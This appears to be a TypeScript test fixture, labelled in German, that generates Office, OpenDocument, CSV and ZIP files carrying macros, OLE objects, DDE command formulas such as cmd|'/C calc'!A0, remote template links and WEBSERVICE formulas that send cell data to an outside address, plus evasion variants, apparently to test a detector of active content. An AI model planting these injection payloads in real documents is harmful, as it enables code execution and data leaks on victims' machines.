import type { ActiveContent } from '#contract/files.ts'
import { escapeHtml } from '../core/escape-html.ts'
import { oddZip } from './odd-zip.ts'
import { body, contents, ole, ooxml, opendocument, relations } from './office-files.ts'

interface ActiveFile {
  name: string
  found: ActiveContent[]
  make: () => Buffer
}

const macroBook = 'application/vnd.ms-excel.sheet.macroEnabled.main+xml'
const far = 'http://198.51.100.7/vorlage.dotm'

/** Office files with active content: refused, or marked if the settings say so. */
export const activeFiles: ActiveFile[] = [
  word('Makros', ['macros'], { 'word/vbaProject.bin': ole }),
  word('Makros anders benannt', ['embedded', 'macros'], {
    'word/bild.bin': ole,
    'word/_rels/document.xml.rels': relations(['vbaProject', 'bild.bin']),
  }),
  word('OLE-Objekt', ['embedded'], {
    'word/embeddings/oleObject1.bin': ole,
    'word/_rels/document.xml.rels': relations(['oleObject', 'embeddings/oleObject1.bin']),
  }),
  word('OLE als Bild', ['embedded'], { 'word/media/bild.png': ole }),
  word('ActiveX', ['embedded'], {
    'word/_rels/document.xml.rels': relations(['control', 'activeX/activeX1.xml']),
  }),
  word('fremde Vorlage', ['external'], {
    'word/_rels/settings.xml.rels': relations(['attachedTemplate', far, 'External']),
  }),
  word('Vorlage auf einem Server', ['external'], {
    'word/_rels/settings.xml.rels': relations([
      'attachedTemplate',
      'file:///\\\\198.51.100.7\\v\\a.dotm',
      'External',
    ]),
  }),
  word('Vorlage mit Zeichenverweisen', ['external'], {
    'word/_rels/settings.xml.rels': relations(['attachedTemplate', far, 'Ext&#101;rnal']),
  }),
  word('Vorlage in UTF-16', ['external'], {
    'word/_rels/settings.xml.rels': utf16(relations(['attachedTemplate', far, 'External'])),
  }),
  word('Vorlage hinter Leerzeichen', ['external'], {
    'word/_rels/settings.xml.rels': `${' '.repeat(600)}${relations(['attachedTemplate', far, 'External'])}`,
  }),
  word('DDE hinter Leerzeilen', ['dde'], {
    'word/document.xml': `${'\n'.repeat(70_000)}${body('<w:fldSimple w:instr="DDE cmd"/>')}`,
  }),
  word('Vorlage mit Vorsatz', ['external'], {
    'word/_rels/settings.xml.rels': `<p:Relationships xmlns:p="r"><p:Relationship Id="r" Type="x/attachedTemplate" Target="${far}" TargetMode="External"/></p:Relationships>`,
  }),
  word('verlinktes Objekt', ['embedded', 'external'], {
    'word/_rels/document.xml.rels': relations(['oleObject', 'http://198.51.100.7/a', 'External']),
  }),
  word('Rahmen', ['external'], {
    'word/_rels/webSettings.xml.rels': relations(['frame', 'http://198.51.100.7/', 'External']),
  }),
  word('Bild von woanders', ['external'], {
    'word/_rels/document.xml.rels': relations(['image', '\\\\198.51.100.7\\a.png', 'External']),
  }),
  word('Teildokument', ['external'], {
    'word/_rels/document.xml.rels': relations(['subDocument', 'file:///x/a.docx', 'External']),
  }),
  word('eingebettete Seite', ['embedded'], {
    'word/_rels/document.xml.rels': relations(['aFChunk', 'a.html']),
  }),
  word('DDE', ['dde'], fields('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')),
  word('DDE zerteilt', ['dde'], fields('D', 'DE', 'AUTO', ' cmd "/k calc"')),
  word('DDE klein geschrieben', ['dde'], fields(' ddeauto cmd "/k calc"')),
  word('DDE im einfachen Feld', ['dde'], {
    'word/document.xml': body('<w:fldSimple w:instr="DDE cmd &quot;/k calc&quot;"/>'),
  }),
  word('DDE in der Fußzeile', ['dde'], { 'word/footer1.xml': field('DDEAUTO cmd') }),
  word(
    'Verknüpfung als Feld',
    ['external'],
    fields('LINK Excel.Sheet.8 "http://198.51.100.7/a.xls"'),
  ),
  word('Text von woanders', ['external'], fields('INCLUDETEXT "http://198.51.100.7/a.docx"')),
  word(
    'Bild von woanders als Feld',
    ['external'],
    fields(String.raw`INCLUDEPICTURE \d \* MERGEFORMAT "\\198.51.100.7\a\b.png"`),
  ),
  word('Bild von woanders als Zeichnung', ['external'], {
    'word/document.xml': body('<w:pict><v:imagedata src="http://198.51.100.7/a.png"/></w:pict>'),
  }),
  word('Serienbrief an einer Datenbank', ['external'], {
    'word/settings.xml':
      '<w:settings xmlns:w="w"><w:mailMerge><w:connectString w:val="Provider=MSDASQL;Server=198.51.100.7"/></w:mailMerge></w:settings>',
  }),
  {
    name: 'XLM-Makros.xlsx',
    found: ['macros'],
    make: () =>
      ooxml('xlsx', {
        'xl/_rels/workbook.xml.rels': relations(['xlMacrosheet', 'macrosheets/sheet1.xml']),
      }),
  },
  {
    name: 'DDE.xlsx',
    found: ['dde'],
    make: () =>
      ooxml('xlsx', {
        'xl/externalLinks/externalLink1.xml':
          '<externalLink><ddeLink ddeService="cmd"/></externalLink>',
      }),
  },
  {
    name: 'DDE am Ende einer langen Formel.xlsx',
    found: ['dde'],
    make: () =>
      ooxml('xlsx', {
        'xl/worksheets/sheet1.xml': `<worksheet><c><f>${'1+'.repeat(4_050)}cmd|'/C calc'!A0</f></c></worksheet>`,
      }),
  },
  {
    name: 'DDE in einer Formel.xlsx',
    found: ['dde'],
    make: () =>
      ooxml('xlsx', {
        'xl/worksheets/sheet1.xml': `<worksheet><c><f>cmd|'/C calc'!A0</f></c></worksheet>`,
      }),
  },
  ...[
    `cmd|'/C echo a|calc'!A0`,
    `1<cmd|'/C calc'!A0`,
    `cmd|'/C "'!A0&"x"`,
    `@cmd|'/C calc'!A0`,
    "MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''",
  ].map((formula, at) => ({
    name: `DDE anders geschrieben ${at + 1}.xlsx`,
    found: ['dde'] as ActiveContent[],
    make: () => sheetWith(`<c><f>${escapeHtml(formula)}</f></c>`),
  })),
  {
    name: 'DDE in einem Namen.xlsx',
    found: ['dde'],
    make: () =>
      ooxml('xlsx', {
        'xl/names.xml': `<workbook><definedName name="x">cmd|'/C calc'!$A$1</definedName></workbook>`,
      }),
  },
  {
    name: 'DDE in einer Regel.xlsx',
    found: ['dde'],
    make: () => sheetWith(`<cfRule><formula>cmd|'/C calc'!A0</formula></cfRule>`),
  },
  {
    name: 'Formel ins Netz.xlsx',
    found: ['external'],
    make: () => sheetWith('<c><f>_xlfn.WEBSERVICE("http://198.51.100.7/?"&amp;A1)</f></c>'),
  },
  {
    name: 'Bild aus dem Netz.xlsx',
    found: ['external'],
    make: () => sheetWith('<c><f>_xlfn.IMAGE("http://198.51.100.7/a.png")</f></c>'),
  },
  {
    name: 'Formel an einem Programm.xlsx',
    found: ['external'],
    make: () => sheetWith('<c><f>RTD("any.program","198.51.100.7","x")</f></c>'),
  },
  {
    name: 'Formel an einer Tabelle im Netz.xlsx',
    found: ['external'],
    make: () => sheetWith(String.raw`<c><f>'\\198.51.100.7\a\[b.xlsx]Tabelle1'!A1</f></c>`),
  },
  {
    name: 'Abfrage im Netz.xlsx',
    found: ['external'],
    make: () =>
      ooxml('xlsx', {
        'xl/connections.xml':
          '<connections><connection id="1"><webPr url="http://198.51.100.7"/></connection></connections>',
      }),
  },
  {
    name: 'Programm beim Klick.pptx',
    found: ['macros'],
    make: () =>
      ooxml('pptx', {
        'ppt/slides/slide1.xml': '<a:hlinkClick xmlns:a="a" action="ppaction://program"/>',
      }),
  },
  {
    name: 'Film von woanders.pptx',
    found: ['external'],
    make: () =>
      ooxml('pptx', {
        'ppt/slides/_rels/slide1.xml.rels': relations([
          'video',
          'http://198.51.100.7/',
          'External',
        ]),
      }),
  },
  text('Makros', ['macros'], { 'Basic/Standard/Module1.xml': '<script:module xmlns:script="s"/>' }),
  text('Python', ['macros'], { 'Scripts/python/a.py': 'import os' }),
  text(
    'Makro beim Öffnen',
    ['macros'],
    inContent(
      '<script:event-listener script:language="ooo:script" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=application"/>',
    ),
  ),
  text('OLE', ['embedded'], inContent('<draw:object-ole xlink:href="./Object 1"/>')),
  text('Applet', ['embedded'], inContent('<draw:applet/>')),
  text(
    'Rahmen',
    ['external'],
    inContent('<draw:floating-frame xlink:href="http://198.51.100.7/"/>'),
  ),
  text(
    'Bild von woanders',
    ['external'],
    inContent('<draw:image xlink:href="http://198.51.100.7/a.png"/>'),
  ),
  text(
    'Abschnitt von woanders',
    ['external'],
    inContent('<text:section-source xlink:href="../a.odt"/>'),
  ),
  text(
    'Formular mit Daten von woanders',
    ['external'],
    inContent('<xforms:instance src="http://198.51.100.7/a.xml"/>'),
  ),
  text('DDE', ['dde'], inContent('<text:dde-connection-decl office:name="a"/>')),
  {
    name: 'DDE.ods',
    found: ['dde'],
    make: () =>
      opendocument(
        'spreadsheet',
        inContent('<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;)"/>'),
      ),
  },
  ...Object.entries({
    'in einem Namen': '<table:named-expression table:expression="of:=WEBSERVICE([.A1])"/>',
    'in einer Regel': '<calcext:condition calcext:value="formula-is(WEBSERVICE([.A1]))"/>',
    'in einer Gültigkeit':
      '<table:content-validation table:condition="of:is-true-formula(WEBSERVICE([.A1]))"/>',
  }).map(([label, content]) => ({
    name: `Formel ins Netz ${label}.ods`,
    found: ['external'] as ActiveContent[],
    make: () => opendocument('spreadsheet', inContent(content)),
  })),
  {
    name: 'DDE in einem Namen.ods',
    found: ['dde'],
    make: () =>
      opendocument(
        'spreadsheet',
        inContent('<table:named-expression table:expression="of:=DDE(&quot;cmd&quot;)"/>'),
      ),
  },
  {
    name: 'Bild von woanders hinter einer Zeile.docx',
    found: ['external'],
    make: () =>
      ooxml('docx', {
        'word/vmlDrawing1.vml':
          '<xml xmlns:v="v"><v:a>1<br>2</v:a><v:imagedata src="http://198.51.100.7/a.png"/></xml>',
      }),
  },
  word('DDE hinter Leerzeichen', ['dde'], fields(' '.repeat(9_000), 'DDE', 'AUTO cmd')),
  {
    name: 'Formel ins Netz auf Deutsch.csv',
    found: ['external'],
    make: () => Buffer.from('a;b\r\n=WEBDIENST("http://198.51.100.7/");2\r\n'),
  },
  {
    name: 'DDE hinter einem Dezimalkomma.csv',
    found: ['dde'],
    make: () => Buffer.from("a;b\r\n=1,5+cmd|'/C calc'!A0;2\r\n"),
  },
  {
    name: 'Makros im Archiv.zip',
    found: ['macros'],
    make: () =>
      oddZip([
        { name: 'b.docx', bytes: ooxml('docx', { 'word/vbaProject.bin': ole }), isPacked: true },
      ]),
  },
  {
    name: 'Arbeitsmappe mit Makros im Archiv.zip',
    found: ['macros'],
    make: () => oddZip([{ name: 'Parameter.xlsm', bytes: ooxml('xlsx', {}, macroBook) }]),
  },
  {
    name: 'Diagramm mit einer Tabelle mit Makros.pptx',
    found: ['macros'],
    make: () =>
      ooxml('pptx', {
        '[Content_Types].xml':
          '<Types><Default Extension="xlsm" ContentType="application/vnd.ms-excel.sheet.macroEnabled.12"/></Types>',
        'ppt/embeddings/Tabelle.xlsm': ooxml('xlsx', {}, macroBook),
      }),
  },
  {
    name: 'Makros im Archiv im Archiv.zip',
    found: ['macros'],
    make: () =>
      oddZip([
        {
          name: 'c.zip',
          bytes: oddZip([{ name: 'b.docx', bytes: ooxml('docx', { 'word/vbaProject.bin': ole }) }]),
        },
      ]),
  },
  ...Object.entries({
    DDE: `=cmd|'/C calc'!A0;2`,
    'DDE mit Komma': `"=cmd|'/C echo a,b;c'!A0";2`,
    'DDE in einer Funktion': `"=IF(1,cmd|'/C calc'!A0,0)",2`,
    'DDE hinter einer neuen Zeile': `"=\ncmd|'/C calc'!A0";2`,
  }).map(([label, row]) => ({
    name: `${label}.csv`,
    found: ['dde'] as ActiveContent[],
    make: () => Buffer.from(`a;b\r\n${row}\r\n`),
  })),
  {
    name: 'Formel ins Netz.csv',
    found: ['external'],
    make: () => Buffer.from('a;b\r\n"=WEBSERVICE(""http://198.51.100.7/?""&A1)";2\r\n'),
  },
  {
    name: 'Formel an einem Programm.csv',
    found: ['external'],
    make: () => Buffer.from('a;b\r\n"=RTD(""any.program"",,""x"")";2\r\n'),
  },
  {
    name: 'Formel an einer Tabelle im Netz.csv',
    found: ['external'],
    make: () => Buffer.from(String.raw`a;b;='\\198.51.100.7\a\[b.xlsx]Tabelle1'!A1`),
  },
  {
    name: 'Formel an einer Tabelle im Netz.ods',
    found: ['external'],
    make: () =>
      opendocument(
        'spreadsheet',
        inContent(
          `<table:table-cell table:formula="of:=['file://198.51.100.7/a.ods'#$Tabelle1.A1]"/>`,
        ),
      ),
  },
  {
    name: 'Formel an einer Tabelle auf einem Server.ods',
    found: ['external'],
    make: () =>
      opendocument(
        'spreadsheet',
        inContent(
          `<table:table-cell table:formula="of:=['sftp://198.51.100.7/a.ods'#$Tabelle1.A1]"/>`,
        ),
      ),
  },
  {
    name: 'Formel ins Netz.ods',
    found: ['external'],
    make: () =>
      opendocument(
        'spreadsheet',
        inContent('<table:table-cell table:formula="of:=WEBSERVICE([.A1])"/>'),
      ),
  },
]

function sheetWith(content: string): Buffer {
  return ooxml('xlsx', { 'xl/worksheets/sheet1.xml': `<worksheet>${content}</worksheet>` })
}

function word(label: string, found: ActiveContent[], parts: Record<string, string | Buffer>) {
  return { name: `${label}.docx`, found, make: () => ooxml('docx', parts) }
}

function text(label: string, found: ActiveContent[], parts: Record<string, string | Buffer>) {
  return { name: `${label}.odt`, found, make: () => opendocument('text', parts) }
}

function inContent(content: string) {
  return { 'content.xml': contents(content) }
}

/** A text with a field whose instruction is split into these pieces. */
function fields(...pieces: string[]) {
  return { 'word/document.xml': field(...pieces) }
}

function field(...pieces: string[]): string {
  const cut = pieces.map(
    (piece) => `<w:r><w:instrText>${piece.replaceAll('"', '&quot;')}</w:instrText></w:r>`,
  )
  return body(`<w:fldChar w:fldCharType="begin"/>${cut.join('')}<w:fldChar w:fldCharType="end"/>`)
}

function utf16(text: string): Buffer {
  return Buffer.from(`\ufeff${text}`, 'utf16le')
}
